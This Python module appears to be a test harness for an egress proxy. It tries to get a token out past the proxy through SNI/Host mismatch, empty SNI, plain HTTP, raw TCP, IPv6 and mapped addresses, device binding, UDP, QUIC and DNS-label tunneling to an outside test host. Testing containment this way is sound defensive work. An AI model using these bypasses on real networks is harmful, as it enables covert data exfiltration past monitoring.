"""Attempts of a captured user, who knows of no proxy: sockets to a world beyond a device."""

from __future__ import annotations

import contextlib
import socket
from typing import Final

from aesp_proxy.launch.attack.direct import question
from aesp_proxy.launch.attack.plan import Plan
from aesp_proxy.launch.attack.wire import ask, encrypted, head

_WAIT_S: Final = 3.0
_TLS: Final = 443
_HTTP: Final = 80
_DNS: Final = 53


def _connect(address: str, port: int) -> socket.socket:
    return socket.create_connection((address, port), _WAIT_S)


def _over_tls(plan: Plan, token: str, *, name: str, host: str) -> str:
    with encrypted(_connect(plan.outside4, _TLS), name) as sock:
        return ask(sock, head("GET", f"/{token}", host))


def control(plan: Plan, token: str) -> str:
    """Ask an allowed host as if there were no proxy: that has to pass."""
    return _over_tls(plan, token, name=plan.allowed, host=plan.allowed)


def other_host(plan: Plan, token: str) -> str:
    """Name an allowed host in TLS, another inside."""
    return _over_tls(plan, token, name=plan.allowed, host=plan.denied)


def other_name(plan: Plan, token: str) -> str:
    """Name a host that is not allowed."""
    return _over_tls(plan, token, name=plan.denied, host=plan.denied)


def no_name(plan: Plan, token: str) -> str:
    """Name none in TLS, and an allowed one inside."""
    return _over_tls(plan, token, name="", host=plan.denied)


def plain(plan: Plan, token: str) -> str:
    """Ask a host that is not allowed in the clear."""
    with _connect(plan.outside4, _HTTP) as sock:
        return ask(sock, head("GET", f"/{token}", plan.denied))


def raw(plan: Plan, token: str) -> str:
    """Say what is neither TLS nor HTTP, to a port of no service."""
    with _connect(plan.outside4, plan.outside_tcp) as sock:
        return ask(sock, token.encode() + b"\n")


def ipv6(plan: Plan, token: str) -> str:
    """The same over IPv6, and to the IPv4 address in an IPv6 one."""
    said = ""
    for place in (
        (plan.outside6, plan.outside_tcp6),
        (f"::ffff:{plan.outside4}", plan.outside_tcp),
    ):
        try:
            with _connect(*place) as sock:
                said = ask(sock, token.encode() + b"\n")
        except OSError as error:
            said = said or str(error)
    return said


def device(plan: Plan, token: str) -> str:
    """Bind the socket to the device that leads out."""
    with socket.socket() as sock:
        sock.settimeout(_WAIT_S)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, plan.device.encode())
        sock.connect((plan.outside4, plan.outside_tcp))
        return ask(sock, token.encode() + b"\n")


def _datagram(address: str, port: int, data: bytes) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.sendto(data, (address, port))
    return "sent"


def udp(plan: Plan, token: str) -> str:
    """Send datagrams, over IPv4 and IPv6."""
    said = ""
    for place in ((plan.outside4, plan.outside_udp), (plan.outside6, plan.outside_udp6)):
        try:
            said = _datagram(*place, token.encode())
        except OSError as error:
            said = said or str(error)
    return said


def quic(plan: Plan, token: str) -> str:
    """Send what begins a QUIC connection."""
    initial = b"\xc3\x00\x00\x00\x01" + token.encode()
    return _datagram(plan.outside4, _TLS, initial.ljust(1200, b"\0"))


def dns(plan: Plan, token: str) -> str:
    """Ask a resolver of the user's own choice, data in a label, by UDP and TCP."""
    query = question(f"{token}.{plan.denied}")
    with contextlib.suppress(OSError):
        _datagram(plan.outside4, _DNS, query)
    with _connect(plan.outside4, _DNS) as sock:
        sock.sendall(len(query).to_bytes(2) + query)
    return "sent"


ATTEMPTS: Final = {
    "captured-control": control,
    "captured-other-host": other_host,
    "captured-other-name": other_name,
    "captured-no-name": no_name,
    "captured-plain": plain,
    "captured-raw": raw,
    "captured-ipv6": ipv6,
    "captured-device": device,
    "captured-udp": udp,
    "captured-quic": quic,
    "captured-dns": dns,
}
